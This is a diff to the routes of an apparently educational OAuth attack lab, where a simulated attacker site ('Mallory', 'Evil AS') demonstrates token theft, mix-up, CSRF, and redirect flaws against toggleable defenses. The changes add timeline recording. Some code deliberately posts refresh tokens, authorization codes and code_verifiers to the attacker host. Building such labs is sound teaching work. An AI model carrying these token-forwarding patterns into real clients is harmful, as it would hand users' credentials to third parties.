@@ -9,9 +9,10 @@
  * - `GET /lab/callback`: the lab copy's redirect_uri. The real `/callback` (oauth/callback.ts) is not involved.
  * - `POST /lab/pkce/finish`: scenario 2's lab copy redeems the code it received.
  */
-import { type Request, Router } from 'express';
+import { type Request, type Response, Router } from 'express';
 import { NotFound, optionalParam, type ParamSource } from '@oauth-demo/tokens';
 import { csrfToken, verifyCsrf } from '@oauth-demo/web';
+import { type FlowKind, currentTrace, describeExchange, newSpanId, startTrace } from '@oauth-demo/teaching';
 import type { AppContext } from '../context.js';
 import { buildLabAuthorizationRequest, exchangeLabCodeForTokens, redeemLabCode, refreshLab } from '../lab/lab_client.js';
 import { SCENARIOS, type Scenario, findScenario } from '../lab/scenarios.js';
@@ -44,30 +45,80 @@ export function labRoutes(ctx: AppContext): Router {
   const implicitRedirectUri = `${ctx.config.printer.publicUrl}/lab/implicit-callback`;
 
   /** The lab's scoreboard: what Mallory's site says she got in this run (not OAuth; the lab asks her site). */
-  async function malloryLoot(run: string): Promise<MalloryLoot[] | null> {
+  async function malloryLoot(req: Request | null, run: string): Promise<MalloryLoot[] | null> {
+    const url = `${attacker.internalUrl}/api/loot/${encodeURIComponent(run)}`;
+    // With a request: part of a run, on its timeline. Without (showing a page): not recorded.
+    const answer = req
+      ? await callMallory(req, 'The lab asks Mallory’s site what she got (the lab’s scoreboard, not OAuth)', url, { method: 'GET' })
+      : await fetch(url, { signal: AbortSignal.timeout(5000) }).then(async (r) => ({ status: r.status, body: (await r.json()) as unknown })).catch(() => null);
+    if (!answer) return null; // her site is not running
+    const body = (answer.body ?? {}) as { loot?: MalloryLoot[] };
+    return Array.isArray(body.loot) ? body.loot : [];
+  }
+
+  /**
+   * The timeline's fifth lane (packages/teaching timeline.ts): an exchange with Mallory's site, as the printer saw
+   * it, filed under this browser's current lab flow. The timeline masks secrets in it like any other.
+   */
+  function recordMallory(req: Request, exchange: { from: 'browser' | 'printer' | 'mallory'; to: 'browser' | 'printer' | 'mallory'; channel: 'front' | 'back'; label: string; method: string; url: string; status?: number; requestHeaders?: Record<string, string>; requestBody?: string; responseBody?: string; step?: number; at?: number }): void {
+    const trace = currentTrace(req);
+    if (!trace) return;
+    ctx.recorder.add({
+      id: newSpanId(),
+      traceId: trace.id,
+      recordedBy: 'printer',
+      from: exchange.from,
+      to: exchange.to,
+      channel: exchange.channel,
+      ...(exchange.step !== undefined ? { step: exchange.step } : {}),
+      label: exchange.label,
+      at: exchange.at ?? Date.now(),
+      durationMs: exchange.at ? Date.now() - exchange.at : 0,
+      request: { method: exchange.method, url: exchange.url, headers: exchange.requestHeaders ?? {}, ...(exchange.requestBody ? { body: exchange.requestBody } : {}) },
+      response: { ...(exchange.status !== undefined ? { status: exchange.status } : {}), headers: {}, ...(exchange.responseBody ? { body: exchange.responseBody } : {}) },
+    });
+  }
+
+  /** A back-channel call from the lab copy to Mallory's site, recorded on the timeline. Network failures: null. */
+  async function callMallory(req: Request, label: string, url: string, init: { method: 'GET' | 'POST'; headers?: Record<string, string>; body?: string }): Promise<{ status: number; body: unknown } | null> {
+    const at = Date.now();
     try {
-      const response = await fetch(`${attacker.internalUrl}/api/loot/${encodeURIComponent(run)}`, { signal: AbortSignal.timeout(5000) });
-      const body = (await response.json()) as { loot?: MalloryLoot[] };
-      return Array.isArray(body.loot) ? body.loot : [];
+      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(ctx.config.httpTimeoutMs) });
+      const text = await response.text();
+      recordMallory(req, { from: 'printer', to: 'mallory', channel: 'back', label, method: init.method, url, status: response.status, requestHeaders: init.headers ?? {}, ...(init.body ? { requestBody: init.body } : {}), responseBody: text.slice(0, 4000), at });
+      try {
+        return { status: response.status, body: JSON.parse(text) as unknown };
+      } catch {
+        return { status: response.status, body: null };
+      }
     } catch {
-      return null; // her site is not running
+      recordMallory(req, { from: 'printer', to: 'mallory', channel: 'back', label: `${label} (no answer)`, method: init.method, url, at });
+      return null;
     }
   }
 
-  /** A back-channel call to Mallory's site for the lab's premises (scenario 7: handing her the stolen token). */
-  async function tellMallory(path: string, form: Record<string, string>): Promise<{ success: boolean; summary: string } | null> {
-    try {
-      const response = await fetch(`${attacker.internalUrl}${path}`, {
-        method: 'POST',
-        headers: { 'content-type': 'application/x-www-form-urlencoded' },
-        body: new URLSearchParams(form).toString(),
-        signal: AbortSignal.timeout(ctx.config.httpTimeoutMs),
-      });
-      const body = (await response.json()) as { success?: unknown; summary?: unknown };
-      return typeof body.summary === 'string' ? { success: body.success === true, summary: body.summary } : null;
-    } catch {
-      return null;
-    }
+  /** A call to Mallory's site for the lab's premises (scenario 7: handing her the stolen token), on the timeline. */
+  async function tellMallory(req: Request, path: string, form: Record<string, string>, label: string): Promise<{ success: boolean; summary: string } | null> {
+    const answer = await callMallory(req, label, `${attacker.internalUrl}${path}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams(form).toString(),
+    });
+    const body = (answer?.body ?? {}) as { success?: unknown; summary?: unknown };
+    return typeof body.summary === 'string' ? { success: body.success === true, summary: body.summary } : null;
+  }
+
+  /** The browser is sent to Mallory's site (a redirect the printer answers with): her lane on the timeline. */
+  function sendToMallory(req: Request, res: Response, url: string, label: string): void {
+    recordMallory(req, { from: 'browser', to: 'mallory', channel: 'front', label, method: 'GET', url });
+    res.redirect(303, url);
+  }
+
+  /** Each run of a scenario is a flow of its own on the timeline. */
+  function startLabTrace(req: Request, res: Response, scenario: Scenario, defenseOn: boolean): void {
+    const kind: FlowKind = scenario.id === 'device' ? 'device_code' : 'authorization_code';
+    const trace = startTrace(req, kind, `Attack lab ${scenario.number}: ${scenario.title}${scenario.defense ? ` (defense ${defenseOn ? 'on' : 'off'})` : ''}`);
+    describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', label: `You press “Run the attack” (${scenario.title})` });
   }
 
   router.get('/lab', (req, res) => {
@@ -94,6 +145,8 @@ export function labRoutes(ctx: AppContext): Router {
   // fragment, or a code in the query); the page loads Mallory's "filter widget", a third-party script.
   router.get('/lab/implicit-callback', (req, res) => {
     const lab = labOf(req);
+    const trace = currentTrace(req);
+    if (trace) describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', step: 4, label: 'The answer arrives at the lab copy’s page (and Mallory’s widget loads)' });
     res.setHeader('Content-Security-Policy', `default-src 'self'; script-src 'self' ${attacker.publicUrl}; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`);
     res.render('lab_implicit', { title: 'Connected', activeSteps: [6], widget: `${attacker.publicUrl}/filters/widget.js?run=${lab.run}` });
   });
@@ -102,6 +155,8 @@ export function labRoutes(ctx: AppContext): Router {
   // only the check the learner switched off is skipped.
   router.get('/lab/callback', async (req, res) => {
     const lab = labOf(req);
+    const trace = currentTrace(req);
+    if (trace) describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', step: 4, label: 'The answer arrives at the lab copy’s redirect_uri' });
     const query = req.query as ParamSource;
     const metadata = await ctx.metadata.get();
     const state = optionalParam(query, 'state');
@@ -161,13 +216,12 @@ export function labRoutes(ctx: AppContext): Router {
       // Defense off: the code goes to the token endpoint of the server the lab copy believes it talks to.
       const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: registration.redirectUri, client_id: registration.publicClientId });
       if (pending.code_verifier) form.set('code_verifier', pending.code_verifier);
-      const answer = await fetch(`${registration.evilAs.tokenEndpoint}?run=${lab.run}`, {
+      const answer = await callMallory(req, 'Step 5, to the wrong server: the real code and its code_verifier go to Evil AS’s token endpoint', `${registration.evilAs.tokenEndpoint}?run=${lab.run}`, {
         method: 'POST',
         headers: { 'content-type': 'application/x-www-form-urlencoded' },
         body: form.toString(),
-        signal: AbortSignal.timeout(ctx.config.httpTimeoutMs),
-      }).catch(() => null);
-      const hers = ((await malloryLoot(lab.run)) ?? []).filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success).at(-1);
+      });
+      const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success).at(-1);
       recordOutcome(lab, 'mixup', pending.defenseOn, {
         attackWorked: hers !== undefined,
         summary: hers ? `Mallory: ${hers.summary}` : 'Mallory got nothing.',
@@ -208,16 +262,15 @@ export function labRoutes(ctx: AppContext): Router {
       const exchanged = await exchangeLabCodeForTokens(ctx.tokenEndpoint, { ...registration, publicClientId: registration.filtersClientId }, code, pending.code_verifier);
       if (!exchanged.ok) throw new NotFound(`The lab copy could not get its token: ${exchanged.error.code}. Run the attack again.`);
       // The legitimate call: the token goes to the API it was made for. (`drive` is the learner's switch, for her.)
-      const called = await fetch(`${registration.filtersApi}?run=${lab.run}&drive=${pending.defenseOn ? 'real' : 'lab'}`, {
+      const called = await callMallory(req, 'Step 7, to the API the token is for: Mallory’s “Free photo filters API”', `${registration.filtersApi}?run=${lab.run}&drive=${pending.defenseOn ? 'real' : 'lab'}`, {
         method: 'POST',
         headers: { authorization: `Bearer ${exchanged.tokens.access_token}` },
-        signal: AbortSignal.timeout(ctx.config.httpTimeoutMs),
-      }).catch(() => null);
-      const hers = ((await malloryLoot(lab.run)) ?? []).filter((l) => l.scenario === 'audience' && l.at >= pending.createdAt).at(-1);
+      });
+      const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'audience' && l.at >= pending.createdAt).at(-1);
       recordOutcome(lab, 'audience', pending.defenseOn, {
         attackWorked: hers?.success === true,
         summary: hers ? `Mallory: ${hers.summary}` : 'Mallory’s API was not called (is her site running?).',
-        details: [called?.ok ? 'The filters API answered the printer normally: nothing looked wrong.' : 'The filters API did not answer.', ...(hers ? hers.details : [])],
+        details: [called?.status === 200 ? 'The filters API answered the printer normally: nothing looked wrong.' : 'The filters API did not answer.', ...(hers ? hers.details : [])],
       });
       res.redirect(303, '/lab/audience#results');
       return;
@@ -233,7 +286,7 @@ export function labRoutes(ctx: AppContext): Router {
       }
       lab.refresh = { refreshToken, defenseOn: pending.defenseOn, createdAt: Date.now() };
       // The theft (the premise, not the lesson): the lab hands the refresh token to Mallory's site, which uses it.
-      const theft = await tellMallory('/stolen/refresh-token', { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' });
+      const theft = await tellMallory(req, '/stolen/refresh-token', { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' }, 'The theft (the lab’s premise): Mallory gets the refresh token');
       res.render('lab_refresh', { title: 'Connected, and robbed', activeSteps: [6], theft, csrf: csrfToken(req) });
       return;
     }
@@ -252,7 +305,7 @@ export function labRoutes(ctx: AppContext): Router {
       results: lab.results[scenario.id] ?? {},
       started: lab.started?.[scenario.id],
       waiting: req.query.waiting === '1',
-      loot: scenario.built ? await malloryLoot(lab.run) : [],
+      loot: scenario.built ? await malloryLoot(null, lab.run) : [],
       attackerUrl: attacker.publicUrl,
       csrf: csrfToken(req),
     });
@@ -270,9 +323,10 @@ export function labRoutes(ctx: AppContext): Router {
     const scenario = scenarioOf(String(req.params.id));
     const lab = labOf(req);
     const defenseOn = isDefenseOn(lab, scenario.id);
+    if (scenario.built) startLabTrace(req, res, scenario, defenseOn);
     if (scenario.id === 'csrf') {
       // The victim (you) visits Mallory's site; it sends your browser to the lab copy's callback with HER code.
-      res.redirect(303, `${attacker.publicUrl}/csrf/${lab.run}`);
+      sendToMallory(req, res, `${attacker.publicUrl}/csrf/${lab.run}`, 'You visit Mallory’s “free photo filters” page');
       return;
     }
     if (scenario.id === 'audience') {
@@ -286,7 +340,7 @@ export function labRoutes(ctx: AppContext): Router {
     if (scenario.id === 'device') {
       // Mallory's site starts a device flow on her "kiosk" and shows you its code.
       (lab.started ??= {}).device = { defenseOn: true, at: Date.now() };
-      res.redirect(303, `${attacker.publicUrl}/kiosk/${lab.run}`);
+      sendToMallory(req, res, `${attacker.publicUrl}/kiosk/${lab.run}`, 'You visit Mallory’s “you won free prints” page');
       return;
     }
     if (scenario.id === 'implicit') {
@@ -303,7 +357,7 @@ export function labRoutes(ctx: AppContext): Router {
       // You visit Mallory's site and click her link. With the defense off, her link uses the auth server's lab
       // copy of the endpoint that compares redirect_uri by prefix (lab/loose_redirect.ts there).
       (lab.started ??= {}).redirect = { defenseOn, at: Date.now() };
-      res.redirect(303, `${attacker.publicUrl}/redirect/${lab.run}?endpoint=${defenseOn ? 'real' : 'lab'}`);
+      sendToMallory(req, res, `${attacker.publicUrl}/redirect/${lab.run}?endpoint=${defenseOn ? 'real' : 'lab'}`, 'You visit Mallory’s page with her “Sign in with Photo Printer” link');
       return;
     }
     if (scenario.id === 'mixup') {
@@ -315,7 +369,7 @@ export function labRoutes(ctx: AppContext): Router {
         defenseOn,
       });
       addPending(lab, { ...request.pending, issuer: registration.evilAs.issuer });
-      res.redirect(303, request.url);
+      sendToMallory(req, res, request.url, 'Step 2, to the server you picked: Evil AS (Mallory’s)');
       return;
     }
     if (scenario.id === 'refresh') {
@@ -343,7 +397,7 @@ export function labRoutes(ctx: AppContext): Router {
     const lab = labOf(req);
     const started = lab.started?.[scenario.id];
     if (!scenario.resultFromMallory || !started) throw new NotFound('Run the attack first.');
-    const loot = await malloryLoot(lab.run);
+    const loot = await malloryLoot(req, lab.run);
     if (loot === null) throw new NotFound('Mallory’s site is not running (npm start runs it).');
     const since = loot.filter((l) => l.scenario === scenario.id && l.at >= started.at);
     if (since.at(-1)?.pending) {
@@ -371,7 +425,7 @@ export function labRoutes(ctx: AppContext): Router {
     delete lab.refresh;
     if (!held) throw new NotFound('There is no refresh token waiting: run the attack again.');
     const mine = await refreshLab(ctx.tokenEndpoint, registration, held.refreshToken, held.defenseOn);
-    const again = await tellMallory('/stolen/refresh-again', { run: lab.run });
+    const again = await tellMallory(req, '/stolen/refresh-again', { run: lab.run }, 'Later: Mallory tries her refresh token again');
     const yours = mine.ok
       ? 'Your printer refreshed: it got a new access token and nothing looked wrong.'
       : `Your printer must connect again: its refresh was refused (${mine.error.code}). The auth server saw a refresh token used a second time, so a copy exists somewhere; it revoked the whole family, yours and the thief’s (RFC 9700 §4.14.2).`;
@@ -392,7 +446,7 @@ export function labRoutes(ctx: AppContext): Router {
       publicClient: true,
       ...(received.code_verifier ? { code_verifier: received.code_verifier } : {}),
     });
-    const hers = ((await malloryLoot(lab.run)) ?? []).filter((l) => l.scenario === 'pkce' && l.at >= received.createdAt).at(-1);
+    const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'pkce' && l.at >= received.createdAt).at(-1);
     const yours = mine.ok
       ? `Your import worked: ${mine.owner}’s ${mine.titles.length} photos.`
       : `Your own import failed (${mine.error.code}): Mallory had redeemed the code first. A code works once; seeing it again, the auth server refused your printer and revoked the tokens it had issued for it, hers included (RFC 6749 §4.1.2), but she had already read your photo list.`;
